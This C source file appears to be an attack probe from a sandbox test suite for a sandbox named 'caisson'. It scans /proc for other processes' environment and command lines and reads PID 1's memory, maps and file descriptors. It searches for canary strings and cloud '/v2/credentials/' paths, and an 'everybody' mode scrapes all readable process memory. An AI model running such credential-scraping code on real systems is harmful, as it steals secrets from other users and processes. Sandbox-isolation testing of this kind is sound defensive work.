/* read_processes WHAT...: looks for secrets in the environ, cmdline, … of every other process, and for a way into the
 * fd, maps and mem of PID 1 and whatever else is caisson. `for SECONDS` looks again and again; with `everybody` it
 * searches the memory of all that it can, whoever they are. */
#include "attack.h"

#include <ctype.h>
#include <dirent.h>
#include <stdbool.h>
#include <time.h>

#define PIECE (1 << 20)

static bool everybody;

static const char *const wanted[] = {"canary-", "/v2/credentials/"};

/* Tells what stands around each find. */
static void search(const char *path, const char *data, size_t len)
{
    size_t i;

    for (i = 0; i < sizeof wanted / sizeof *wanted; i++) {
        const char *at = data;

        while ((at = memmem(at, len - (size_t)(at - data), wanted[i], strlen(wanted[i])))) {
            size_t left = len - (size_t)(at - data);

            tell(path, strlen(path));
            tell(": ", 2);
            tell(at, left < 100 ? left : 100);
            tell("\n", 1);
            at += strlen(wanted[i]);
        }
    }
}

static void read_file(const char *path)
{
    static char data[PIECE];
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    ssize_t got;

    if (fd < 0)
        return;
    while ((got = read(fd, data, sizeof data)) > 0)
        search(path, data, (size_t)got);
    close(fd);
}

static void read_memory(const char *process)
{
    static char data[PIECE];
    char path[300], line[512];
    unsigned long from, to;
    FILE *maps;
    int mem;

    snprintf(path, sizeof path, "/proc/%s/maps", process);
    maps = fopen(path, "re");
    snprintf(path, sizeof path, "/proc/%s/mem", process);
    mem = open(path, O_RDONLY | O_CLOEXEC);
    if (maps && mem >= 0 && !everybody)
        won("mapped and opened %s", path);
    while (maps && mem >= 0 && fgets(line, sizeof line, maps))
        if (sscanf(line, "%lx-%lx", &from, &to) == 2)
            for (; from < to; from += sizeof data) {
                size_t len = to - from < sizeof data ? to - from : sizeof data;
                ssize_t got = pread(mem, data, len, (off_t)from);

                if (got > 0)
                    search(path, data, (size_t)got);
            }
    if (maps)
        fclose(maps);
    if (mem >= 0)
        close(mem);
}

static void read_descriptors(const char *process)
{
    char path[300], target[256];
    struct dirent *entry;
    DIR *folder;

    snprintf(path, sizeof path, "/proc/%s/fd", process);
    folder = opendir(path);
    if (!folder)
        return;
    while ((entry = readdir(folder))) {
        ssize_t len;

        if (entry->d_name[0] == '.')
            continue;
        snprintf(path, sizeof path, "/proc/%s/fd/%s", process, entry->d_name);
        len = readlink(path, target, sizeof target - 1);
        if (len < 0)
            continue;
        won("descriptor %s is %.*s", path, (int)len, target);
    }
    closedir(folder);
}

static bool is_caisson(const char *process)
{
    char path[300], name[32] = "";
    FILE *file;

    if (strcmp(process, "1") == 0)
        return true;
    snprintf(path, sizeof path, "/proc/%s/comm", process);
    file = fopen(path, "re");
    if (file && !fgets(name, sizeof name, file))
        *name = '\0';
    if (file)
        fclose(file);
    return strncmp(name, "caisson", 7) == 0 || strcmp(name, "exe\n") == 0; /* started by a descriptor */
}

static bool can_read(const char *path)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    char byte;
    bool got = fd >= 0 && read(fd, &byte, 1) == 1;

    close(fd);
    return got;
}

static void look(const char *process, int argc, char **argv)
{
    char path[300];
    int i;

    for (i = 1; i < argc; i++) {
        bool inside = strcmp(argv[i], "mem") == 0 || strcmp(argv[i], "fd") == 0 || strcmp(argv[i], "maps") == 0;

        if (inside && !everybody && !is_caisson(process))
            continue;
        snprintf(path, sizeof path, "/proc/%s/%s", process, argv[i]);
        if (strcmp(argv[i], "mem") == 0)
            read_memory(process);
        else if (strcmp(argv[i], "fd") == 0)
            read_descriptors(process);
        else if (!inside)
            read_file(path);
        else if (access(path, R_OK) == 0 && can_read(path))
            won("read %s", path);
    }
}

static void look_at_all(int argc, char **argv)
{
    DIR *proc = opendir("/proc");
    struct dirent *entry;

    while (proc && (entry = readdir(proc)))
        if (isdigit((unsigned char)*entry->d_name) && atoi(entry->d_name) != getpid())
            look(entry->d_name, argc, argv);
    if (proc)
        closedir(proc);
}

int main(int argc, char **argv)
{
    time_t end = 0;

    if (argc > 2 && strcmp(argv[1], "for") == 0) {
        end = time(NULL) + atoi(argv[2]);
        argv += 2;
        argc -= 2;
    }
    if (argc > 1 && strcmp(argv[1], "everybody") == 0) {
        everybody = true;
        argv++;
        argc--;
    }
    do {
        look_at_all(argc, argv);
        usleep(end ? 2000 : 0);
    } while (time(NULL) < end);
    return 0;
}
